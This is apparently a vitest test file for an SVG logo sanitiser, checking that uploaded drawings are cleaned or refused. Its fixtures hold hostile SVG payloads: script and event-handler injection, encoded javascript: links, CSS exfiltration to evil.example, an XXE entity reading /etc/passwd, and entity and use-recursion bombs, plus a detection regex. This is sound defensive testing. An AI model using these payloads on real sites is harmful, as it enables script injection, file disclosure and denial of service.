import type { LogoRefusal } from '@draagvlak/domain/logo-refusals'
import type { LogoNote } from '@draagvlak/domain/logo-wall'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { cleanSvg } from './svg-clean.ts'
import { SVG_LIMITS } from './svg-allowed.ts'
import { writeSvg } from './svg-tree.ts'

const svg = (inside: string, attributes = '') => `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 50" ${attributes}>${inside}</svg>`
const box = '<rect width="100" height="50" fill="#147"/>'

async function cleaned(text: string, prefix = 'p-') {
  const result = await cleanSvg(new TextEncoder().encode(text), prefix, async () => null)
  if (!result.ok) throw new Error(`refused: ${result.because}`)
  return { text: writeSvg(result.root), notes: [...result.notes], hasText: result.hasText, hasRaster: result.hasRaster }
}
async function refusal(text: string): Promise<LogoRefusal | null> {
  const result = await cleanSvg(new TextEncoder().encode(text), 'p-', async () => null)
  return result.ok ? null : result.because
}

/** What may never stand in a stored drawing, however it was written. */
const DANGEROUS = /<script|javascript:|https?:\/\/(?!www\.w3\.org\/(?:2000\/svg|1999\/xlink))|\son\w+\s*=|foreignObject|<iframe|@import|@font-face|data:text|<!ENTITY|<!DOCTYPE|<a[\s>]|<animate|<set[\s>]|expression\(|file:|\/\/evil/i

const CLEANED: readonly { readonly title: string; readonly inside: string; readonly attributes?: string; readonly note?: LogoNote }[] = [
  { title: 'a script element', inside: `<script>alert(1)</script>${box}`, note: 'scripts-removed' },
  { title: 'a script with an address', inside: `<script xlink:href="https://evil.example/x.js"/>${box}`, note: 'scripts-removed' },
  { title: 'a script in another namespace prefix', inside: `<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>${box}`, note: 'scripts-removed' },
  { title: 'a handler on the root', inside: box, attributes: 'onload="alert(1)"', note: 'scripts-removed' },
  { title: 'a handler on a shape', inside: '<rect width="9" height="9" onclick="alert(1)" onMouseOver="alert(2)"/>', note: 'scripts-removed' },
  { title: 'a link to elsewhere', inside: `<a href="https://evil.example/">${box}</a>`, note: 'links-removed' },
  { title: 'a link that runs', inside: `<a xlink:href="javascript:alert(1)">${box}</a>`, note: 'links-removed' },
  { title: 'a link that runs, spelled with entities', inside: `<a href="java&#x73;cript:alert(1)">${box}</a>`, note: 'links-removed' },
  { title: 'an animation that writes a link', inside: `<a id="x"><animate attributeName="href" values="javascript:alert(1)"/>${box}</a>`, note: 'animation-removed' },
  { title: 'a set that writes a handler', inside: `<g><set attributeName="onclick" to="alert(1)"/>${box}</g>`, note: 'animation-removed' },
  { title: 'HTML inside', inside: `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>${box}`, note: 'foreign-content-removed' },
  { title: 'HTML that pretends to be drawn', inside: `<iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/>${box}`, note: 'hidden-information-removed' },
  { title: 'a picture from elsewhere', inside: `<image href="https://evil.example/pixel.png" width="9" height="9"/>${box}`, note: 'external-references-removed' },
  { title: 'a picture from this machine', inside: `<image xlink:href="file:///etc/passwd" width="9" height="9"/>${box}`, note: 'external-references-removed' },
  { title: 'a drawing inside a data address', inside: `<image href="data:image/svg+xml;base64,PHN2Zy8+" width="9" height="9"/>${box}`, note: 'external-references-removed' },
  { title: 'a part of another file', inside: `<use href="https://evil.example/x.svg#a"/>${box}`, note: 'external-references-removed' },
  { title: 'a data address in a use', inside: `<use href="data:image/svg+xml,&lt;svg id='x'/>#x"/>${box}`, note: 'external-references-removed' },
  { title: 'paint from elsewhere', inside: '<rect width="9" height="9" fill="url(https://evil.example/a.svg#b)"/>', note: 'external-references-removed' },
  { title: 'paint from elsewhere, escaped', inside: '<rect width="9" height="9" fill="u\\72l(https://evil.example/a)"/>', note: 'external-references-removed' },
  { title: 'an imported sheet', inside: `<style>@import url(https://evil.example/a.css); rect{fill:red}</style>${box}`, note: 'external-references-removed' },
  { title: 'an imported sheet without url', inside: `<style>@import "//evil.example/a.css";</style>${box}`, note: 'external-references-removed' },
  { title: 'a font from elsewhere', inside: `<style>@font-face{font-family:x;src:url(https://evil.example/f)}rect{fill:red}</style>${box}`, note: 'external-references-removed' },
  { title: 'a background from elsewhere', inside: `<style>rect{background:url(https://evil.example/b)}</style>${box}`, note: 'external-references-removed' },
  { title: 'a style attribute that fetches', inside: '<rect width="9" height="9" style="fill:red;background-image:url(//evil.example/b)"/>', note: 'external-references-removed' },
  { title: 'an escaped address in a style', inside: '<rect width="9" height="9" style="fill:\\75 rl(https://evil.example/b)"/>', note: 'external-references-removed' },
  { title: 'old CSS that runs', inside: '<rect width="9" height="9" style="width:expression(alert(1));fill:expression(alert(1))"/>', note: 'styles-removed' },
  { title: 'a sheet that follows the reader\'s dark mode', inside: `<style>@media (prefers-color-scheme:dark){rect{fill:#fff}}</style>${box}`, note: 'styles-removed' },
  { title: 'a sheet that breaks out of its element', inside: `<style><![CDATA[rect{fill:red}</style><script>alert(1)</script>]]></style>${box}` },
  { title: 'a sheet that reads attributes away', inside: `<style>rect[fill^="a"]{fill:url(https://evil.example/a)}</style>${box}`, note: 'styles-removed' },
  { title: 'an instruction to load a sheet', inside: `<?xml-stylesheet href="https://evil.example/a.css"?>${box}`, note: 'hidden-information-removed' },
  { title: 'another base for addresses', inside: `<g xml:base="https://evil.example/">${box}</g>` },
  { title: 'a filter that fetches', inside: `<filter id="f"><feImage href="https://evil.example/a.png"/></filter><g filter="url(#f)">${box}</g>`, note: 'filters-removed' },
  { title: 'the maker\'s name', inside: `<metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">by P. Jansen</rdf:RDF></metadata><!-- P. Jansen -->${box}`, note: 'hidden-information-removed' },
]

describe('hostile and odd drawings are cleaned', () => {
  test.each(CLEANED)('[G1] $title goes, the drawing stays', async ({ inside, attributes, note }) => {
    const result = await cleaned(svg(inside, attributes))
    expect(result.text).not.toMatch(DANGEROUS)
    expect(result.text).not.toContain('Jansen')
    expect(result.text).toContain('<rect')
    if (note !== undefined) expect(result.notes).toContain(note)
  })

  test('[G1] whatever is thrown together, nothing dangerous is left, and cleaning twice changes nothing dangerous back', async () => {
    const piece = fc.constantFrom(...CLEANED.map(it => it.inside))
    await fc.assert(fc.asyncProperty(fc.array(piece, { maxLength: 8 }), async pieces => {
      const once = await cleaned(svg(pieces.join('')))
      expect(once.text).not.toMatch(DANGEROUS)
      expect((await cleaned(once.text)).text).not.toMatch(DANGEROUS)
    }), { seed: 35, numRuns: 60 })
  })
})

const uses = (depth: number) => Array.from({ length: depth }, (_, at) => `<g id="l${at + 1}">${`<use xlink:href="#l${at}"/>`.repeat(10)}</g>`).join('')

const REFUSED: readonly { readonly title: string; readonly text: string; readonly because: LogoRefusal }[] = [
  { title: 'entities that grow into billions', text: `<!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;">]>${svg('<text>&b;</text>')}`, because: 'has-entities' },
  { title: 'an entity that reads a file', text: `<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>${svg('<text>&a;</text>')}`, because: 'has-entities' },
  { title: 'a parameter entity', text: `<!DOCTYPE svg [<!ENTITY % a "x"> %a;]>${svg(box)}`, because: 'has-entities' },
  { title: 'a few uses that draw millions of shapes', text: svg(`<defs><rect id="l0" width="1" height="1"/>${uses(7)}</defs><use xlink:href="#l7"/>`), because: 'too-many-elements' },
  { title: 'a use that contains itself', text: svg('<g id="a"><use href="#a"/></g>'), because: 'repeats-itself' },
  { title: 'two patterns that paint each other', text: svg('<pattern id="a"><rect fill="url(#b)"/></pattern><pattern id="b"><rect fill="url(#a)"/></pattern><rect fill="url(#a)"/>'), because: 'repeats-itself' },
  { title: 'elements nested without end', text: svg('<g>'.repeat(200) + '</g>'.repeat(200)), because: 'too-deep' },
  { title: 'more elements than a logo has', text: svg('<path/>'.repeat(SVG_LIMITS.elements + 1)), because: 'too-many-elements' },
  { title: 'more markup than a logo has', text: svg(`<path d="${'M0 0'.repeat(SVG_LIMITS.bytes / 4)}"/>`), because: 'too-many-bytes' },
  { title: 'broken markup', text: '<svg xmlns="http://www.w3.org/2000/svg"><g></svg>', because: 'damaged' },
  { title: 'markup cut off halfway', text: svg(box).slice(0, -12), because: 'damaged' },
  { title: 'an attribute twice', text: svg('<rect fill="red" fill="blue"/>'), because: 'damaged' },
  { title: 'a name for nothing', text: svg('<x:rect/>'), because: 'damaged' },
  { title: 'a character set that is not read here', text: `<?xml version="1.0" encoding="utf-7"?>${svg(box)}`, because: 'unknown-encoding' },
  { title: 'another root', text: '<g xmlns="http://www.w3.org/2000/svg"/>', because: 'is-not-a-picture' },
]

test.each(REFUSED)('[G1] refused: $title', async ({ text, because }) => {
  expect(await refusal(text)).toBe(because)
})

describe('names of its own', () => {
  const drawing = svg('<style>path,.a{fill:red}#b>path{fill:blue}svg{color:green}</style><defs><linearGradient id="g"/></defs><g id="b" class="a c"><path d="M0 0h9v9z" fill="url(\'#g\')"/></g>')

  test('[G1] every id, class, rule and reference carries the prefix of its file', async () => {
    const { text } = await cleaned(drawing, 'one-')
    expect(text).toContain('id="one-g"')
    expect(text).toContain('fill="url(#one-g)"')
    expect(text).toContain('class="one-a one-c"')
    expect(text).toContain('class="one-root"')
    expect(text).toContain('.one-root path,path.one-root,.one-root .one-a,.one-a.one-root{fill:red}')
    expect(text).toContain('#one-b.one-root&gt;path{fill:blue}')
  })

  test('[G1] no rule of one logo can touch another logo on the same page', async () => {
    const { text } = await cleaned(drawing, 'one-')
    const rules = /<style>(.*)<\/style>/.exec(text)?.[1] ?? ''
    for (const selector of rules.replace(/\{[^}]*\}/g, ',').split(',').filter(it => it !== '')) expect(selector).toContain('.one-root')
  })
})

describe('what a drawing may bring', () => {
  test('[G1] older drawing programs declare their namespaces as entities: those are read', async () => {
    const { text } = await cleaned(`<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [ <!ENTITY ns_svg "http://www.w3.org/2000/svg"> ]><svg xmlns="&ns_svg;" viewBox="0 0 9 9"><rect width="9" height="9"/></svg>`)
    expect(text).toContain('<rect')
  })

  test('[G1] a switch keeps the first part that can be drawn', async () => {
    const { text } = await cleaned(svg(`<switch><foreignObject/><g><circle r="4"/></g><g>${box}</g></switch>`))
    expect(text).toContain('<circle')
    expect(text).not.toContain('<rect')
  })

  test('[G1] lettering that is still text is known', async () => {
    expect((await cleaned(svg('<text font-family="Gotham">ActiZ</text>'))).hasText).toBe(true)
    expect((await cleaned(svg(`<text> </text>${box}`))).hasText).toBe(false)
  })

  test('[G1] gradients, clips, masks, patterns and symbols survive', async () => {
    const { text, notes } = await cleaned(svg('<defs><clipPath id="c"><circle r="9"/></clipPath><mask id="m"><rect/></mask><pattern id="p" width="2" height="2"><rect/></pattern><symbol id="s" viewBox="0 0 9 9"><path d="M0 0h9"/></symbol></defs><g clip-path="url(#c)" mask="url(#m)" fill="url(#p)" style="mix-blend-mode:multiply;fill:rgb(1,2,3)"><use href="#s" transform="translate(1 2) rotate(4)"/></g>'))
    for (const part of ['clip-path="url(#p-c)"', 'mask="url(#p-m)"', 'fill="url(#p-p)"', 'xlink:href="#p-s"', 'transform="translate(1 2) rotate(4)"', 'mix-blend-mode:multiply', 'rgb(1,2,3)']) expect(text).toContain(part)
    expect(notes).toEqual([])
  })
})
